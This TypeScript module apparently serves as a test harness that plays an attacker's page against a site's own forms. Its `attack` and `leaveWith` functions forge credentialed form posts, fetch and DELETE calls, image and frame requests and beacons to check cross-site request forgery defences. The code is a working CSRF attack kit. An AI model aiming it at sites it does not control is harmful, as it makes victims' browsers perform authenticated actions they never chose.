/** A form of ours that another site submits for its visitor. */
export type Attacked = { path: string; fields: [name: string, value: string][] };

/** Runs in the attacker's page: sends each form in every way a browser allows. Waits for all. */
export async function attack({
  site,
  targets,
  isThorough,
}: {
  site: string;
  targets: Attacked[];
  isThorough: boolean;
}) {
  const settled = (work: Promise<unknown>) => work.catch(() => {});
  function byForm(action: string, fields: Attacked["fields"], enctype: string) {
    const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
    const form = Object.assign(document.createElement("form"), {
      action,
      enctype,
      method: "post",
      target: frame.name,
    });
    for (const [name, value] of fields)
      form.append(Object.assign(document.createElement("textarea"), { name, value }));
    document.body.append(frame, form);
    return new Promise<void>((resolve) => {
      frame.onload = () => resolve();
      HTMLFormElement.prototype.submit.call(form);
    });
  }
  function byImage(src: string) {
    return new Promise<void>((resolve) => {
      const image = new Image();
      image.onload = image.onerror = () => resolve();
      image.src = src;
    });
  }
  function byFrame(src: string) {
    return new Promise<void>((resolve) => {
      const frame = document.createElement("iframe");
      frame.onload = () => resolve();
      frame.src = src;
      document.body.append(frame);
    });
  }
  const bySender = (action: string, init: RequestInit) =>
    settled(fetch(action, { method: "POST", credentials: "include", mode: "no-cors", ...init }));
  for (const { path, fields } of targets) {
    const action = site + path;
    const words = new URLSearchParams(fields);
    const parts = new FormData();
    for (const [name, value] of fields) parts.append(name, value);
    const read = `${action}${action.includes("?") ? "&" : "?"}${words}`;
    const json = { "content-type": "application/json" };
    await Promise.all([
      byForm(action, fields, "application/x-www-form-urlencoded"),
      bySender(action, { body: parts }),
      ...(isThorough
        ? [
            byForm(action, fields, "multipart/form-data"),
            byForm(action, fields, "text/plain"),
            bySender(action, { body: words }),
            bySender(action, { body: String(words) }),
            bySender(action, { body: JSON.stringify(Object.fromEntries(fields)) }),
            settled(
              fetch(action, {
                method: "POST",
                credentials: "include",
                mode: "cors",
                headers: json,
                body: JSON.stringify(Object.fromEntries(fields)),
              }),
            ),
            settled(fetch(action, { method: "DELETE", credentials: "include", mode: "cors" })),
            byImage(read),
            byFrame(read),
            settled(Promise.resolve(navigator.sendBeacon(action, words))),
          ]
        : []),
    ]);
    document.body.replaceChildren();
  }
}

/** Runs in the attacker's page: submits with a top-level navigation. */
export function leaveWith({ site, target: { path, fields } }: { site: string; target: Attacked }) {
  const form = Object.assign(document.createElement("form"), {
    action: site + path,
    method: "post",
  });
  for (const [name, value] of fields)
    form.append(Object.assign(document.createElement("textarea"), { name, value }));
  document.body.append(form);
  HTMLFormElement.prototype.submit.call(form);
}
